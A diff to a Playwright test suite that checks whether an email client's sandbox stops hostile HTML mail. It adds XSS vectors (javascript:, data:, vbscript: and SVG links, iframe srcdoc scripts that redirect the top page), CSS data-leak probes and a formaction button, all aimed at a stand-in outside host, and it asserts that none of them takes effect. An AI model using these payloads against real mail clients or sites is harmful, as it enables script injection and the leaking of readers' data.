@@ -20,6 +20,15 @@ const hostile = (host: string) => `
 <a href="javascript:alert('link')">a script link</a> <a href="${host}/linked" target="_top" ping="${host}/ping">an outside link</a>
 <details open ontoggle="alert('toggle')"><summary>more</summary></details><input autofocus onfocus="alert('focus')">
 <math><a xlink:href="javascript:alert('math')">formula</a></math><p style="background:url(${host}/style.png)">styled</p>
+<a href="data:text/html,<script>alert('data')</script>" target="_top">a data link</a> <a href="vbscript:alert(1)">an old link</a>
+<svg><a href="javascript:alert('svg link')"><text y="20">a drawn link</text></a><animate attributeName="href" values="javascript:alert('animate')"/>
+<foreignObject><iframe srcdoc="&lt;script&gt;top.location='${host}/foreign'&lt;/script&gt;"></iframe></foreignObject></svg>
+<iframe sandbox="allow-scripts allow-top-navigation allow-same-origin" srcdoc="&lt;script&gt;top.location='${host}/loosened'&lt;/script&gt;"></iframe>
+<style>input[value^="s"] { background-image: url(${host}/leak-s) } @media (min-width: 1px) { p { list-style-image: url(${host}/leak-media) } }
+p::before { content: url(${host}/leak-content) } p { cursor: url(${host}/leak-cursor), auto; border-image: url(${host}/leak-border) 1 }
+:root { --leak: url(${host}/leak-variable) } body { mask-image: image-set("${host}/leak-set" 1x); background: var(--leak) }</style>
+<noscript><img src="${host}/noscript.png"></noscript><template><img src="${host}/template.png"></template>
+<button form="outside" formaction="${host}/formaction" formtarget="_top">Send it elsewhere</button><form id="outside"></form>
 </body></html>`;
 
 /** What must not happen to a page: dialogs, navigations of the whole, requests that reach others than `origin`. */
@@ -52,9 +61,12 @@ test('an HTML mail runs nothing, fetches nothing and takes nobody away', async (
   await send({ subject: '<img src=x onerror=alert(1)>', html: hostile(stranger.url) });
   await inbox.read('<img src=x onerror=alert(1)>');
   await expect(inbox.html.getByText('Words that can be read')).toBeVisible();
-  await inbox.html.getByRole('button', { name: 'Send it' }).click();
+  await inbox.html.getByRole('button', { name: 'Send it', exact: true }).click();
   await inbox.html.getByRole('textbox').first().press('Enter');
-  await inbox.html.getByText('a script link').click();
+  await inbox.html.getByRole('button', { name: 'Send it elsewhere' }).click();
+  for (const link of ['a script link', 'an old link', 'a drawn link'])
+    await inbox.html.getByText(link).click();
+  await inbox.html.getByText('a data link').click();
   // A second mail is shown after the first has had its chance.
   await send({ subject: 'Afterwards', html: '<p>Peace</p>' });
   await inbox.read('Afterwards');
@@ -82,8 +94,8 @@ test('nor does its document when it is opened in a tab of its own', async ({
   const harm = watch(tab, sandbox.url);
   await tab.goto(`${sandbox.url}/api/messages/${messages[0]?.id ?? ''}/html`);
   await expect(tab.getByText('Words that can be read')).toBeVisible();
-  await tab.getByText('a script link').click();
-  await tab.getByRole('button', { name: 'Send it' }).click();
+  for (const link of ['a script link', 'a data link', 'a drawn link']) await tab.getByText(link).click();
+  await tab.getByRole('button', { name: 'Send it', exact: true }).click();
   expect(harm).toEqual([]);
   expect(stranger.asked).toEqual([]);
 });
@@ -143,3 +155,34 @@ test('images that came with the mail are shown at once', async ({ inbox, send, p
   await expect(inbox.message.getByText('remote reference')).toBeHidden();
   expect(harm).toEqual([]);
 });
+
+test('a table of 30,000 cells and HTML of 10 MB leave the inbox usable', async ({
+  inbox,
+  send,
+  stranger,
+  page,
+  sandbox,
+}) => {
+  const harm = watch(page, sandbox.url);
+  const pixel = `<img src="${stranger.url}/pixel.png" onerror="alert(1)">`;
+  await send({ subject: 'Large table', html: `<p>Cells</p><table>${row(100, pixel).repeat(300)}</table>` });
+  await send({
+    subject: 'Large HTML',
+    html: `<p>Start</p>${`<p>${'Lorem ipsum '.repeat(80)}</p>`.repeat(10_500)}${pixel}`,
+  });
+  await send({ subject: 'Small', html: '<p>Peace</p>' });
+  for (const [subject, words] of [
+    ['Large table', 'Cells'],
+    ['Large HTML', 'Start'],
+    ['Small', 'Peace'],
+  ] as const) {
+    await inbox.read(subject);
+    await expect(inbox.html.getByText(words)).toBeVisible();
+  }
+  expect(harm).toEqual([]);
+  expect(stranger.asked).toEqual([]);
+  expect(page.url()).toContain(`${sandbox.url}/#/in/`);
+});
+
+const row = (cells: number, last: string) =>
+  `<tr>${'<td width="9999">cell</td>'.repeat(cells - 1)}<td>${last}</td></tr>`;
